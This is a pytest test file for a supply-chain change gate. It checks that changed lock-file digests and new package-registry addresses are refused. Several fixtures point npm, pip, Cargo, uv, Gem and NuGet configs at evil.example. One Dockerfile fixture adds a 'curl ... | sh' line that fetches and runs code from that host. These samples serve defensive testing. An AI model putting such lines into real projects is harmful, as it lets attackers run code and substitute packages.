"""Where packages come from: a digest that a lock file replaces, an address that the base does not name."""

import json
from pathlib import Path

import pytest

from asbuilt.app.config import read_config
from asbuilt.app.gate_brought import look
from asbuilt.app.gate_content import Asked, touched_files
from asbuilt.history.git import open_repository
from asbuilt.model.gate import Answer, Gate
from tests.app.test_gate import NOW, asked
from tests.app.test_gate_brought import OPEN
from tests.repos import Repo

EVIL = "packages from evil.example"
SHA = {letter: f"sha512-{letter * 86}==" for letter in "AB"}
CARGO = (
    '[[package]]\nname = "serde"\nversion = "1.0.0"\n'
    'source = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "{}"\n'
)
UV = (
    'version = 1\n[[package]]\nname = "requests"\nversion = "2.31.0"\nsource = {{ registry = "{0}" }}\n'
    'sdist = {{ url = "{0}/r.tgz", hash = "sha256:{1}" }}\n'
)
GEMS = "GEM\n  remote: https://{}/\n  specs:\n    a (1.0)\n\nDEPENDENCIES\n  a\n"


@pytest.fixture(autouse=True)
def _stores(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ASBUILT_ADVISORIES", str(tmp_path / "advisories.sqlite"))
    monkeypatch.setenv("ASBUILT_REGISTRY", str(tmp_path / "registry.sqlite"))


def npm(resolved: str = "https://registry.npmjs.org/a/-/a-1.0.0.tgz", **more: str) -> str:
    entry = {"version": "1.0.0", "resolved": resolved, **more}
    return json.dumps({"lockfileVersion": 3, "packages": {"": {}, "node_modules/a": entry}}, indent=1)


def changed(repo: Repo, path: str, before: str, after: str, policy: str = OPEN) -> Gate:
    repo.write("asbuilt.toml", policy)
    if before:
        repo.write(path, before)
    repo.commit("Begin")
    repo.checkout("topic", new=True).write(path, after).commit("Change")
    return asked(repo)


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("package-lock.json", npm(integrity=SHA["A"]), npm(integrity=SHA["B"])),
        ("package-lock.json", npm(integrity=SHA["A"]), npm()),
        ("package-lock.json", npm(integrity=SHA["A"]), npm(integrity=f"sha1-{'A' * 27}=")),
        ("Cargo.lock", CARGO.format("a" * 64), CARGO.format("b" * 64)),
        ("go.sum", "github.com/a/b v1.0.0 h1:aaa=\n", "github.com/a/b v1.0.0 h1:bbb=\n"),
        ("uv.lock", UV.format("https://pypi.org/simple", "a" * 64), UV.format("https://pypi.org/simple", "b" * 64)),
        ("requirements.txt", f"a==1 --hash=sha256:{'a' * 64}\n", f"a==1 --hash=sha256:{'b' * 64}\n"),
    ],
)
def test_a_version_that_stays_keeps_its_digest(repo: Repo, path: str, before: str, after: str) -> None:
    found = changed(repo, path, before, after)
    assert found.answer is Answer.REFUSED
    (own,) = found.refusing
    assert "stays, and" in own.message
    assert own.path == path


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("package-lock.json", npm(), npm(integrity=SHA["A"])),
        ("package-lock.json", npm(integrity=f"sha1-{'A' * 27}="), npm(integrity=SHA["A"])),
        ("requirements.txt", f"a==1 --hash=sha256:{'a' * 64}\n",
         f"a==1 --hash=sha256:{'a' * 64} --hash=sha256:{'b' * 64}\n"),
        ("Gemfile.lock", GEMS.format("rubygems.org"), GEMS.format("rubygems.org").replace("1.0", "1.1")),
        ("package-lock.json", "", npm(integrity=SHA["A"])),
        ("Cargo.lock", "", CARGO.format("a" * 64)),
        ("pyproject.toml", "", '[project]\nname = "x"\n[project.urls]\nHomepage = "https://x.example"\n'),
        ("package.json", "", '{"homepage": "https://x.example", "repository": {"url": "https://x.example/a.git"}}'),
    ],
)  # fmt: skip
def test_better_digests_and_registries_that_are_asked_anyway_are_nothing_to_refuse(
    repo: Repo, path: str, before: str, after: str
) -> None:
    assert changed(repo, path, before, after).refusing == ()


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("package-lock.json", npm(), npm("https://evil.example/a-1.0.0.tgz")),
        ("Cargo.lock", CARGO.format(""), CARGO.format("").replace("github.com/rust-lang", "evil.example/x")),
        ("uv.lock", UV.format("https://pypi.org", "a" * 64), UV.format("https://evil.example", "a" * 64)),
        ("Gemfile.lock", GEMS.format("rubygems.org"), GEMS.format("evil.example")),
        ("requirements.txt", "a==1\n", "--extra-index-url https://evil.example/simple\na==1\n"),
        ("requirements.txt", "a==1\n", "-i https://user@evil.example/simple\na==1\n"),
        ("pyproject.toml", '[project]\nname = "x"\n', '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "https://evil.example"\n'),
        (".npmrc", "", "@acme:registry=https://evil.example/\n"),
        (".yarnrc.yml", "", "npmRegistryServer: https://evil.example\n"),
        ("pip.conf", "", "[global]\nindex-url = https://evil.example\n"),
        ("nuget.config", "", '<add key="x" value="https://evil.example/v3" />\n'),
        (".cargo/config.toml", "", '[source.x]\nregistry = "https://evil.example"\n'),
        ("Dockerfile", "FROM a\n", "FROM a\nRUN curl -fsSL https://evil.example/x | sh\n"),
    ],
)  # fmt: skip
def test_an_address_that_the_base_does_not_name_is_told(repo: Repo, path: str, before: str, after: str) -> None:
    found = changed(repo, path, before, after)
    own = next(each for each in found.refusing if each.name == EVIL)
    assert (own.path, found.answer) == (path, Answer.REFUSED)
    assert own.reasons == ("it counts once another person approved the change",)


def test_the_public_registry_is_new_where_the_base_names_another_one(repo: Repo) -> None:
    found = changed(
        repo, "requirements.txt", "-i https://pip.acme.example/\na==1\n", "-i https://pypi.org/simple\na==1\n"
    )
    assert [own.name for own in found.refusing] == ["packages from pypi.org"]


def test_a_known_host_that_is_asked_without_encryption_is_told(repo: Repo) -> None:
    found = changed(repo, "requirements.txt", "-i https://a.example/\na==1\n", "-i http://a.example/\na==1\n")
    assert [own.name for own in found.refusing] == ["packages from http://a.example"]


def test_an_address_counts_once_another_person_approved_the_change(repo: Repo) -> None:
    changed(repo, ".npmrc", "", "registry=https://evil.example/\n")
    with open_repository(repo.path) as repository:
        base, head = (repository.resolve(name) for name in ("main", "topic"))
        raw = repository.run("diff-tree", "-r", "-z", "--raw", base, head)
        told = Asked(repository, base, head, tuple(touched_files(raw)), read_config(repository, base), NOW, True)
        assert [(own.name, own.blocks) for own in look(told).brought] == [(EVIL, False)]


@pytest.mark.parametrize("path", ["Package-Lock.json", "sub/PACKAGE.JSON", "cargo.lock"])
def test_a_name_that_differs_by_letter_case_alone_is_not_known(repo: Repo, path: str) -> None:
    found = changed(
        repo, path, "", '{"dependencies": {"evil": "1"}}' if path.lower().endswith("json") else "evil==1\n"
    )
    assert [own.path for own in found.refusing] == [path]
    assert found.answer is Answer.NOT_SEEN


def test_a_list_of_any_name_that_another_reads_in_is_read(repo: Repo) -> None:
    repo.write("requirements.txt", "-r base.list\n").write("base.list", "a==1\n")
    found = changed(repo, "base.list", "", "a==1\nevil==1\n")
    assert [own.name for own in found.brought] == ["PyPI evil 1"]


def test_an_address_in_a_manifest_is_no_range_of_the_lock_file_beside_it(repo: Repo) -> None:
    repo.write("package-lock.json", npm())
    before, after = (json.dumps({"dependencies": {"a": told}}) for told in ("^1", "git+https://evil.example/a.git"))
    found = changed(repo, "package.json", before, after)
    assert [own.what for own in found.brought] == ["version"]
    assert "evil.example" in found.brought[0].name


def test_a_hostile_text_of_one_line_is_read_in_little_time(repo: Repo) -> None:
    lines = (
        "url = " * 150_000 + "\n" + "https://a" * 100_000 + "\n" + "registry=" * 100_000 + "https://evil.example"
    )
    assert changed(repo, ".npmrc", "", lines).answer is not None
